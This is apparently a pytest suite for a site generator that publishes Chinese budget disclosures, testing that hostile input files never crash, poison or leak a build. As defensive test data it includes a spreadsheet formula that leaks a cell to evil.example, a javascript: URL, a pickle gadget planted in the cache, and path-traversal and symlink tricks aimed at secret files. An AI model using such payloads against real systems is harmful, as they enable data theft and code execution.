"""Hostile input, round two (issue 16): one bad file never stops, poisons or leaks the build.

Each test reproduces one case of the issue. Text disclosures (tests/fixtures/*/source.txt)
keep the builds fast; 004's text keeps its cells separated by tabs.
"""

from __future__ import annotations

import copy
import dataclasses
import functools
import json
import os
import shutil
from decimal import Decimal
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import FIXTURES, pdf_path

from sitegen.cli import cli
from sitegen.disclosure import parse_document
from sitegen.extract import read_document

SECRET = "SITEGEN_TEST_SECRET_TOKEN=7f3a9c"
TEXT = {doc: (FIXTURES / doc / "source.txt").read_text(encoding="utf-8") for doc in ("002", "003", "004")}
UNITS = {"002": "yan-qi-xian-she-hui-bao-xian-zhong-xin", "003": "xin-jiang-wei-wu-er-zi-zhi-qu-she-hui-bao-xian-zhong-xin",
         "004": "a-ke-tao-xian-she-hui-bao-xian-zhong-xin"}
# one tab-separated row of 004's 表2 and one of its 三公 table, as printed
ROW_T2 = "208\t05\t01\t行政单位离退休\t19.90\t19.90\t19.90\t"
ROW_3G = "公务用车运行费\t3.60\t3.60\t\t"


def build(content: Path, root: Path, *extra: str):
    args = ["build", "--content", str(content), "--data", str(root / "dp"), "--out", str(root / "site"),
            "--cache", str(root / "cache"), *extra]
    return CliRunner().invoke(cli, args)


def content_with(root: Path, files: dict[str, str]) -> Path:
    """A content folder holding text disclosures: {file name: document id or text}."""
    content = root / "content"
    content.mkdir(parents=True, exist_ok=True)
    for name, doc in files.items():
        (content / name).parent.mkdir(parents=True, exist_ok=True)
        (content / name).write_text(TEXT.get(doc, doc), encoding="utf-8")
    return content


def error_lines(output: str) -> list[str]:
    return [line for line in output.splitlines() if line.startswith(("error", "skipped"))]


def named(output: str, name: str, reason: str) -> bool:
    return any(name in line and reason in line for line in error_lines(output))


def units(root: Path) -> set[str]:
    return {p.parent.parent.name for p in (root / "dp").glob("*/*/datapackage.json")}


def every_byte(*folders: Path) -> bytes:
    return b"".join(p.read_bytes() for folder in folders if folder.exists() for p in folder.rglob("*") if p.is_file())


def with_cell(text: str, row: str, index: int, value: str) -> str:
    """The document with one tab cell of `row` replaced."""
    assert row in text
    cells = row.split("\t")
    cells[index] = value
    return text.replace(row, "\t".join(cells), 1)


# ---------------------------------------------------------------- 1. nothing outside content/ is read


def test_symlink_out_of_content_is_refused_and_named(tmp_path):
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "other.txt").write_text(TEXT["002"], encoding="utf-8")
    content = content_with(tmp_path, {"good.txt": "004"})
    (content / "linked.txt").symlink_to(outside / "other.txt")
    (content / "folder").symlink_to(outside, target_is_directory=True)
    result = build(content, tmp_path)
    assert result.exit_code == 0, result.output
    assert named(result.output, "linked.txt", "symlink leads outside the content folder")
    assert named(result.output, "folder", "symlinked folder leads outside the content folder")
    assert units(tmp_path) == {UNITS["004"]}


def test_parse_of_a_folder_refuses_symlinks_out_of_it(tmp_path):
    (tmp_path / "other.txt").write_text(TEXT["002"], encoding="utf-8")
    content = content_with(tmp_path, {"good.txt": "004"})
    (content / "linked.txt").symlink_to(tmp_path / "other.txt")
    (content / "notes.docx").write_bytes(b"PK")
    result = CliRunner().invoke(cli, ["parse", str(content), "--out", str(tmp_path / "dp")])
    assert named(result.output, "linked.txt", "symlink leads outside")
    assert named(result.output, "notes.docx", "not a disclosure file")
    assert units(tmp_path) == {UNITS["004"]}


def test_part_of_symlink_to_a_secret_is_never_read(tmp_path):
    secret = tmp_path / "environ"
    secret.write_text(f"{SECRET}\n", encoding="utf-8")
    content = content_with(tmp_path, {"main.txt": "004"})
    (content / "part.txt").symlink_to(secret)
    (content / "metadata.toml").write_text(
        '[files."part.txt"]\npart_of = "main.txt"\n[files."main.txt"]\nunit_id = "main"\n', encoding="utf-8")
    result = build(content, tmp_path)
    assert result.exit_code == 0, result.output
    assert named(result.output, "part.txt", "outside the content folder")
    assert units(tmp_path) == {"main"}
    assert SECRET.encode() not in every_byte(tmp_path / "dp", tmp_path / "site", tmp_path / "cache")


@pytest.mark.parametrize("declared, reason", [
    ({"a.txt": "a.txt"}, "names the file itself"),
    ({"a.txt": "b.txt", "b.txt": "a.txt"}, "is itself a part (a chain or a cycle)"),
    ({"a.txt": "missing.txt"}, "names no disclosure file"),
    ({"a.txt": "../outside.txt"}, "leads outside the content folder"),
])
def test_part_of_that_cannot_be_honoured_is_named_and_the_file_still_built(tmp_path, declared, reason):
    (tmp_path / "outside.txt").write_text(TEXT["003"], encoding="utf-8")
    content = content_with(tmp_path, {"a.txt": "002", "b.txt": "004"})
    entries = "".join(f'[files."{name}"]\npart_of = "{main}"\n' for name, main in declared.items())
    (content / "metadata.toml").write_text(entries, encoding="utf-8")
    result = build(content, tmp_path)
    assert result.exit_code == 0, result.output
    for name in declared:
        assert named(result.output, name, reason), result.output
    assert units(tmp_path) == {UNITS["002"], UNITS["004"]}


def test_a_broken_part_is_named_and_its_main_file_still_published(tmp_path):
    content = content_with(tmp_path, {"main.txt": "004"})
    (content / "tables.pdf").write_bytes(b"%PDF-1.7\n" + b"\0" * 300)
    (content / "metadata.toml").write_text('[files."tables.pdf"]\npart_of = "main.txt"\n', encoding="utf-8")
    result = build(content, tmp_path)
    assert result.exit_code == 0, result.output
    assert named(result.output, "tables.pdf", "part of"), result.output
    assert units(tmp_path) == {UNITS["004"]}


# ---------------------------------------------------------------- 2. NaN / sNaN / Infinity cells


@functools.cache
def parse_with(*cells: tuple[str, int, str]):
    """004's text disclosure with tab cells replaced: (row as printed, cell index, new text)…"""
    text = TEXT["004"]
    for row, index, value in cells:
        text = with_cell(text, row, index, value)
    doc = read_document(FIXTURES / "004" / "source.txt")
    doc.pages = [dataclasses.replace(doc.pages[0], lines=text.splitlines())]
    return parse_document(doc)


def row_of(d, resource: str, name: str) -> dict:
    return next(r for r in d.tables[resource].rows if (r.get("name") or r.get("item")) == name)


@pytest.mark.parametrize("token", ["NaN", "sNaN", "-Infinity"])
def test_non_finite_text_cell_is_left_empty_and_reported(token):
    """The cell reads exactly like a blank cell, plus a warning naming it."""
    bad, blank = parse_with((ROW_T2, 5, token)), parse_with((ROW_T2, 5, ""))
    assert row_of(bad, "income_summary", "行政单位离退休") == row_of(blank, "income_summary", "行政单位离退休")
    assert any(repr(token) in str(w) and "not a number" in str(w) for w in bad.warnings)
    assert all(v is None or v.is_finite() for t in bad.tables.values() for r in t.rows for v in r.values()
               if isinstance(v, Decimal))


def test_non_finite_pdf_cell_is_left_empty_and_reported(parsed):
    good = parsed("004", "B")
    doc = read_document(pdf_path("004", "B"))
    doc = copy.deepcopy(doc)
    target = next(w for p in doc.pages for w in p.words if w.text == "71.52")  # 基本工资 in 表8
    page = next(p for p in doc.pages if target in p.words)
    page.words[page.words.index(target)] = dataclasses.replace(target, text="NaN")
    d = parse_document(doc)
    before = next(r for r in good.tables["general_basic_expenditure"].rows if r["name"] == "基本工资")
    row = next(r for r in d.tables["general_basic_expenditure"].rows if r["name"] == "基本工资")
    assert before["total"] == Decimal("71.52") and row["total"] is None
    assert row["personnel"] == before["personnel"] == Decimal("71.52")
    assert any("'NaN'" in str(w) and "not a number" in str(w) for w in d.warnings)
    assert all(v is None or v.is_finite() for t in d.tables.values() for r in t.rows for v in r.values()
               if isinstance(v, Decimal))


def test_parse_writes_the_good_file_beside_a_bad_one(tmp_path):
    (tmp_path / "nan.txt").write_text(TEXT["004"].replace("19.90", "NaN"), encoding="utf-8")
    (tmp_path / "good.txt").write_text(TEXT["003"], encoding="utf-8")
    out = tmp_path / "dp"
    result = CliRunner().invoke(cli, ["parse", str(tmp_path / "nan.txt"), str(tmp_path / "good.txt"), "--out", str(out)])
    assert result.exit_code == 0, result.output
    written = sorted(p.parent.parent.name for p in out.glob("*/*/datapackage.json"))
    assert written == sorted([UNITS["003"], UNITS["004"]])
    csvs = b"".join(p.read_bytes() for p in out.rglob("*.csv"))
    assert b"NaN" not in csvs and b"Infinity" not in csvs


def test_a_poisoned_package_on_disk_does_not_stop_later_builds(tmp_path):
    content = content_with(tmp_path, {"good.txt": "004", "old.txt": "002"})
    assert build(content, tmp_path).exit_code == 0
    (content / "old.txt").unlink()  # its package stays: nothing could regenerate it
    old = tmp_path / "dp" / UNITS["002"]
    for csv_file in old.rglob("*.csv"):
        lines = csv_file.read_text(encoding="utf-8").splitlines()
        poisoned = [lines[0]] + [",".join("sNaN" if c and c.replace(".", "").isdigit() else c for c in line.split(","))
                                 for line in lines[1:]]
        csv_file.write_text("\n".join(poisoned) + "\n", encoding="utf-8")
    (content / "new.txt").write_text(TEXT["003"], encoding="utf-8")
    result = build(content, tmp_path)
    assert result.exit_code == 0, result.output
    assert (tmp_path / "site" / UNITS["003"]).is_dir() and (tmp_path / "site" / "index.html").exists()


# ---------------------------------------------------------------- 3. XLSX never holds a formula


def test_xlsx_strings_are_strings_and_long_amounts_exact(tmp_path):
    import xlsxwriter
    from openpyxl import load_workbook

    from sitegen.site.downloads import _write_row

    wb = xlsxwriter.Workbook(str(tmp_path / "t.xlsx"))
    sheet = wb.add_worksheet("t")
    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"点此")'
    amount = "123456789012345678901234567890.12"
    _write_row(sheet, 0, [hyperlink, "=100%", amount, "7376.85", "NaN", ""], [False, False, True, True, True, True])
    wb.close()
    cells = list(load_workbook(tmp_path / "t.xlsx")["t"].iter_rows())[0]
    assert [(c.value, c.data_type) for c in cells[:5]] == [
        (hyperlink, "s"), ("=100%", "s"), (amount, "s"), (7376.85, "n"), ("NaN", "s")]


# ---------------------------------------------------------------- 4. one strict number grammar


@pytest.mark.parametrize("text, value", [
    ("1,234.56", "1234.56"), ("-7.5", "-7.5"), ("−0.024", "-0.024"), ("12345", "12345"), ("0.024", "0.024"),
    ("", None), ("-", None), ("—", None), ("－", None), (" 1,000 ", "1000"),
    ("123456789012345678901234567890", "123456789012345678901234567890"),
])
def test_amount_grammar_accepts(text, value):
    from sitegen.disclosure.numbers import parse_amount

    got = parse_amount(text)
    assert (None if got is None else str(got)) == value


@pytest.mark.parametrize("text", ["1,2,3", "12,34.5", "1e5", "1_000", "１２３", "١٢٣", "NaN", "sNaN", "Infinity",
                                  "1.2.3", "+5", "--5", "5-", "1,23", "12,3456", "0x10", "1 000", "－5"])
def test_amount_grammar_refuses(text):
    from sitegen.disclosure.numbers import NotAnAmount, parse_amount

    with pytest.raises(NotAnAmount):
        parse_amount(text)


@pytest.mark.parametrize("token", ["1,2,3", "1e5", "1_000", "１９.９０"])
def test_malformed_tab_cell_never_shifts_the_row(token):
    """A refused number is an empty cell in place: the row reads like one with that cell
    blank (the numbers right of it keep their columns), the 三公 item keeps its own name."""
    bad = parse_with((ROW_T2, 5, token), (ROW_3G, 1, token))
    blank = parse_with((ROW_T2, 5, ""), (ROW_3G, 1, ""))
    assert row_of(bad, "income_summary", "行政单位离退休") == row_of(blank, "income_summary", "行政单位离退休")
    assert row_of(bad, "three_public_expenses", "公务用车运行费") == row_of(blank, "three_public_expenses", "公务用车运行费")
    car = row_of(bad, "three_public_expenses", "公务用车运行费")
    assert (car["total"], car["general_budget"]) == (None, Decimal("3.60"))
    assert sum(repr(token) in str(w) for w in bad.warnings) == 2


def test_thirty_digit_amount_is_exact_in_csv_and_xlsx(tmp_path):
    from openpyxl import load_workbook

    amount = "123456789012345678901234567890.12"
    content = content_with(tmp_path, {"big.txt": with_cell(TEXT["004"], ROW_T2, 4, amount)})
    result = build(content, tmp_path)
    assert result.exit_code == 0, result.output
    csv_text = next((tmp_path / "dp").rglob("income_summary.csv")).read_text(encoding="utf-8")
    assert f"行政单位离退休,{amount}," in csv_text
    xlsx = next((tmp_path / "site").rglob("*.xlsx"))
    values = [c.value for ws in load_workbook(xlsx) for r in ws.iter_rows() for c in r]
    assert amount in values


# ---------------------------------------------------------------- 6. single inputs that crashed the build


def test_newline_markup_and_escapes_in_file_names(tmp_path):
    content = content_with(tmp_path, {"good\nsecond.txt": "004", "[/bold]x.txt": "002"})
    (content / "second.txt").write_text(TEXT["003"], encoding="utf-8")  # what the old worker opened
    (content / "\x1b[31mred.pdf").write_bytes(b"%PDF-1.7\nnot really")
    (content / "[red]cell.txt").write_text(with_cell(TEXT["004"], ROW_T2, 5, "[/bold]"), encoding="utf-8")
    (content / "metadata.toml").write_text('[files."[red]cell.txt"]\nunit_id = "cell"\n', encoding="utf-8")
    result = build(content, tmp_path, "-v")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output
    assert named(result.output, "content/red.pdf", "not a readable PDF")  # the escape sequence removed
    # "good⏎second.txt" is read as itself (004), never as second.txt (003)
    assert units(tmp_path) == {UNITS["002"], UNITS["003"], UNITS["004"], "cell"}


def test_unreadable_file_and_folder_are_named(tmp_path, monkeypatch):
    content = content_with(tmp_path, {"good.txt": "004", "locked.txt": "002"})
    (content / "sub").mkdir()
    (content / "sub" / "inner.txt").write_text(TEXT["003"], encoding="utf-8")
    os.mkfifo(content / "pipe.txt")
    if os.geteuid() != 0:
        (content / "locked.txt").chmod(0)
        (content / "sub").chmod(0)
    else:  # root reads everything: make the system refuse as it would for a normal user
        real_open, real_scandir = open, os.scandir

        def refuse(path, *args, **kwargs):
            if str(path).endswith(("locked.txt", "sub")):
                raise PermissionError(13, "Permission denied", str(path))
            return (real_scandir if not args and not kwargs and os.path.isdir(path) else real_open)(path, *args, **kwargs)

        monkeypatch.setattr("builtins.open", refuse)
        monkeypatch.setattr(os, "scandir", refuse)
    result = build(content, tmp_path, "--executor", "inline")
    assert result.exit_code == 0, result.output
    assert named(result.output, "locked.txt", "cannot read the file")
    assert named(result.output, "sub", "folder not read")
    assert named(result.output, "pipe.txt", "not a regular file")
    assert units(tmp_path) == {UNITS["004"]}


BAD_METADATA = [  # (where, TOML line, key, what the error says)
    ("files", 'unit_id = 123', "unit_id", "expected a non-empty string, found int 123"),
    ("files", 'year = "../../2024"', "year", "expected an integer year 1950–2100"),
    ("defaults", 'year = -1', "year", "expected an integer year 1950–2100"),
    ("files", 'region = 42', "region", "expected a non-empty string, found int 42"),
    ("defaults", 'region = "' + "区" * 300 + '"', "region", "at most 200 characters"),
    ("files", 'source_url = "javascript:alert(1)"', "source_url", "http(s)://"),
    ("defaults", 'license = 5', "license", "expected a string or a table"),
    ("files", 'kind = "draft"', "kind", "expected one of budget, final, found 'draft'"),
    ("files", 'unit = ["x"]', "unit", "expected a non-empty string, found list"),
]


def test_metadata_type_errors_are_named_and_the_file_built(tmp_path):
    content = content_with(tmp_path, {"good.txt": "004"})
    lines = {"defaults": "[defaults]", "files": '[files."good.txt"]'}
    toml = "\n".join(f"{header}\n" + "\n".join(t for w, t, _, _ in BAD_METADATA if w == where)
                     for where, header in lines.items())
    (content / "metadata.toml").write_text(toml + "\n", encoding="utf-8")
    result = build(content, tmp_path)
    assert result.exit_code == 0, result.output
    reported = [line for line in error_lines(result.output) if "metadata.toml" in line]
    assert len(reported) == len(BAD_METADATA), reported
    for where, _, key, expected in BAD_METADATA:
        head = "[defaults]" if where == "defaults" else '[files."good.txt"]'
        assert any(f"{head} {key}: " in line and expected in line and "key ignored" in line
                   for line in reported), (key, reported)
    assert units(tmp_path) == {UNITS["004"]}
    dp = json.loads(next((tmp_path / "dp").rglob("datapackage.json")).read_text(encoding="utf-8"))
    assert dp["unit"]["year"] == 2025 and len(json.dumps(dp)) < 100_000


@pytest.mark.parametrize("data, reason", [
    (b'[files."good.txt"\nunit_id = "x"\n', "not valid TOML"),
    ('[defaults]\nregion = "新疆"\n'.encode("gb18030"), "not UTF-8 text"),
    (b"files = 3\n", "must be a table"),
])
def test_broken_metadata_file_is_named_and_the_build_goes_on(tmp_path, data, reason):
    content = content_with(tmp_path, {"good.txt": "004"})
    (content / "metadata.toml").write_bytes(data)
    result = build(content, tmp_path)
    assert result.exit_code == 0, result.output
    assert named(result.output, "metadata.toml", reason), result.output
    assert units(tmp_path) == {UNITS["004"]}


def test_huge_region_never_reaches_the_home_page(tmp_path):
    content = content_with(tmp_path, {"good.txt": "004"})
    (content / "metadata.toml").write_text(f'[defaults]\nregion = "{"区" * 5_000_000}"\n', encoding="utf-8")
    result = build(content, tmp_path)
    assert result.exit_code == 0, result.output
    assert named(result.output, "metadata.toml", "[defaults] region: expected a string of at most 200")
    assert (tmp_path / "site" / "index.html").stat().st_size < 1_000_000


def test_license_string_passes_build_and_validate(tmp_path):
    content = content_with(tmp_path, {"good.txt": "004"})
    (content / "metadata.toml").write_text('[defaults]\nlicense = "CC-BY-4.0"\n', encoding="utf-8")
    assert build(content, tmp_path).exit_code == 0
    result = CliRunner().invoke(cli, ["validate", str(tmp_path / "dp"), "--json"])
    report = json.loads(result.output)
    assert [p["frictionless_valid"] for p in report["packages"]] == [True], report
    dp = json.loads(next((tmp_path / "dp").rglob("datapackage.json")).read_text(encoding="utf-8"))
    assert dp["licenses"] == [{"name": "CC-BY-4.0"}]


# ---------------------------------------------------------------- 7. silent drops


def test_every_file_left_out_is_named(tmp_path):
    content = content_with(tmp_path, {"good.txt": "004"})
    (content / "budget.xlsx").write_bytes(b"PK\x03\x04")
    (content / "notes.docx").write_bytes(b"PK\x03\x04")
    (content / ".hidden.pdf").write_bytes(b"%PDF")
    result = build(content, tmp_path)
    assert result.exit_code == 0, result.output
    assert named(result.output, "budget.xlsx", "not a disclosure file")
    assert named(result.output, "notes.docx", "not a disclosure file")
    assert ".hidden.pdf" not in result.output  # dot files are the user's own, never inputs


# ---------------------------------------------------------------- 5. limits that bind


def _hierarchy_rows(n: int) -> list[dict]:
    rows = [{"code": "", "level": 0, "name": "合计", "total": str(n)}]
    per = 10
    for c in range(n // (per * per)):
        code1 = f"{c:03d}"
        rows.append({"code": code1, "level": 1, "name": "类", "total": str(per * per)})
        for k in range(per):
            code2 = f"{code1}{k:02d}"
            rows.append({"code": code2, "level": 2, "name": "款", "total": str(per)})
            rows.extend({"code": f"{code2}{i:02d}", "level": 3, "name": "项", "total": "1"} for i in range(per))
    return rows


def test_audit_of_a_huge_table_is_linear():
    """check_hierarchy was quadratic (25k rows 11.5 s, 50k rows 52.5 s)."""
    import time

    from sitegen.audit.checks import audit_tables

    def seconds(n: int) -> float:
        tables = {"expenditure_summary": _hierarchy_rows(n)}
        start = time.perf_counter()
        findings, _ = audit_tables(tables, {}, {}, {}, {})
        assert [f for f in findings if f.check == "hierarchy"] == []  # every sum holds
        return time.perf_counter() - start

    small, big = seconds(20_000), seconds(80_000)
    assert big < 5 and big < 8 * small + 0.5  # quadratic would be 16×


def _text_rows(n: int):
    from sitegen.disclosure.placement import TextRow

    rows = [TextRow("", 0, [])]
    for c in range(n // 111):
        rows.append(TextRow(f"{c:03d}", 1, []))
        for k in range(10):
            rows.append(TextRow(f"{c:03d}{k:02d}", 2, []))
            rows.extend(TextRow(f"{c:03d}{k:02d}{i:02d}", 3, []) for i in range(10))
    rows.append(TextRow("", 2, []))  # a row without a code has no children
    return rows


def test_text_placement_finds_children_in_linear_time():
    """A 100k-row text table took 194 s: each row scanned every row for its children."""
    import time

    from sitegen.disclosure.placement import _children

    rows = _text_rows(1_200)
    naive = {i: ([k for k, r in enumerate(rows) if r.level == 1] if row.level == 0 else
                 [k for k, r in enumerate(rows) if r.level == row.level + 1 and row.code and r.code.startswith(row.code)])
             for i, row in enumerate(rows)}
    assert _children(rows) == naive

    def seconds(n: int) -> float:
        big = _text_rows(n)
        start = time.perf_counter()
        _children(big)
        return time.perf_counter() - start

    small, large = seconds(20_000), seconds(80_000)
    assert large < 8 * small + 0.5  # quadratic would be 16×


def test_max_pages_applies_to_text(tmp_path):
    content = content_with(tmp_path, {"good.txt": "004", "feeds.txt": TEXT["002"] + "\f" * 500})
    result = build(content, tmp_path, "--max-pages", "400")
    assert result.exit_code == 0, result.output
    assert named(result.output, "feeds.txt", "501 pages (form feeds), more than the limit of 400")


def test_inline_executor_keeps_the_time_limit_and_says_what_it_cannot(tmp_path):
    content = content_with(tmp_path, {"slow.txt": "002"})
    shutil.copy(pdf_path("002", "A"), content / "slow.pdf")
    result = build(content, tmp_path, "--executor", "inline", "--timeout", "0.3", "--cache", "")
    assert named(result.output, "slow.pdf", "stopped after 0 s (time limit)"), result.output
    assert "--max-memory 4096 is not enforced" in result.output


def test_dask_executor_keeps_the_time_limit(tmp_path):
    pytest.importorskip("dask.distributed")
    content = tmp_path / "content"
    content.mkdir()
    shutil.copy(pdf_path("002", "A"), content / "slow.pdf")
    result = build(content, tmp_path, "--executor", "dask", "--timeout", "0.3", "--cache", "")
    assert named(result.output, "slow.pdf", "time limit"), result.output


def _quick(job):
    import time

    time.sleep(0.05 if job[0] == "a" else 0.3)
    return job[0], "done", None, 0.0


def test_a_finished_worker_is_not_timed_out_while_the_parent_is_busy():
    import time

    from sitegen.executors import run_local

    results = []

    def slow_collect(result):
        results.append(result)
        time.sleep(1.5)  # longer than the time limit: the other worker has long finished

    run_local(_quick, [("a",), ("b",)], slow_collect, jobs=2, timeout=1.0)
    assert sorted(results) == [("a", "done", None, 0.0), ("b", "done", None, 0.0)]


# ---------------------------------------------------------------- 8. cache, modes, swap, validate


def test_cache_is_json_with_a_hash_and_a_planted_file_runs_nothing(tmp_path):
    content = content_with(tmp_path, {"good.txt": "004"})
    assert build(content, tmp_path).exit_code == 0
    [entry] = [p for p in (tmp_path / "cache").iterdir() if p.is_file() and p.suffix == ".json"]
    assert entry.suffix == ".json" and json.loads(entry.read_bytes())["sha256"]
    marker = tmp_path / "pwned"

    class Boom:
        def __reduce__(self):
            return (Path.touch, (marker,))

    import pickle

    (entry.with_suffix(".pickle")).write_bytes(pickle.dumps(Boom()))
    doctored = json.loads(entry.read_bytes())
    doctored["body"] = doctored["body"].replace("阿克陶", "某某某")
    entry.write_text(json.dumps(doctored), encoding="utf-8")
    shutil.rmtree(tmp_path / "dp")
    result = build(content, tmp_path)
    assert result.exit_code == 0 and "(0 from cache)" in result.output, result.output
    assert not marker.exists()
    assert "某某某" not in every_byte(tmp_path / "dp").decode("utf-8")


def test_output_folders_have_normal_modes(tmp_path):
    content = content_with(tmp_path, {"good.txt": "004"})
    old = os.umask(0o022)
    try:
        assert build(content, tmp_path).exit_code == 0
    finally:
        os.umask(old)
    folders = [tmp_path / "site", *(tmp_path / "dp").glob("*/*")]
    assert {oct(p.stat().st_mode & 0o777) for p in folders} == {"0o755"}
    files = [p for p in (tmp_path / "site").rglob("*") if p.is_file()]
    assert {oct(p.stat().st_mode & 0o777) for p in files} == {"0o644"}


def test_site_swap_never_leaves_the_site_missing(tmp_path, monkeypatch):
    """A kill between the steps of the swap: _site/ is there (old or new) at every point."""
    from sitegen import fsutil

    target, tmp = tmp_path / "_site", tmp_path / ".new"
    target.mkdir()
    (target / "index.html").write_text("old")
    tmp.mkdir()
    (tmp / "index.html").write_text("new")
    seen = []
    real_replace, real_rmtree = os.replace, shutil.rmtree

    def watch(fn):
        def step(*args, **kwargs):
            seen.append((target / "index.html").exists())
            out = fn(*args, **kwargs)
            seen.append((target / "index.html").exists())
            return out
        return step

    monkeypatch.setattr(fsutil.os, "replace", watch(real_replace))
    monkeypatch.setattr(fsutil.shutil, "rmtree", watch(real_rmtree))
    fsutil.swap_in(tmp, target)
    assert (target / "index.html").read_text() == "new"
    assert seen and all(seen)


def test_validate_opens_no_file_outside_the_package(tmp_path):
    content = content_with(tmp_path, {"good.txt": "004"})
    assert build(content, tmp_path).exit_code == 0
    (tmp_path / "secret.csv").write_text("code,name,total\n1,x,1\n", encoding="utf-8")
    dp_path = next((tmp_path / "dp").rglob("datapackage.json"))
    dp = json.loads(dp_path.read_text(encoding="utf-8"))
    dp["resources"][0]["path"] = "../../../secret.csv"
    dp["resources"][1]["path"] = str(tmp_path / "secret.csv")
    dp_path.write_text(json.dumps(dp, ensure_ascii=False), encoding="utf-8")
    opened = []
    real_open = open

    def spy(path, *args, **kwargs):
        opened.append(str(path))
        return real_open(path, *args, **kwargs)

    import builtins

    builtins.open, saved = spy, builtins.open
    try:
        result = CliRunner().invoke(cli, ["validate", str(dp_path.parent), "--json"])
    finally:
        builtins.open = saved
    report = json.loads(result.output)
    assert report["packages"][0]["frictionless_valid"] is False
    assert any("not safe" in e for e in report["packages"][0]["frictionless_errors"])
    assert not [p for p in opened if "secret.csv" in p]


def test_inline_time_limit_holds_when_an_alarm_is_swallowed():
    """An alarm raised inside a gc callback is ignored by Python (seen once in this suite under
    hypothesis): the alarm repeats after the limit, so the next one stops the file."""
    import time

    from sitegen.executors import run_inline

    def task(job):
        try:
            time.sleep(5)
        except BaseException:  # swallowed, as Python does for an exception in a gc callback
            pass
        time.sleep(5)
        return job[0], "finished", None, 10.0

    results = []
    started = time.monotonic()
    run_inline(task, [("slow.pdf",)], results.append, timeout=0.2)
    assert results[0][1] is None and "time limit" in results[0][2]
    assert time.monotonic() - started < 3
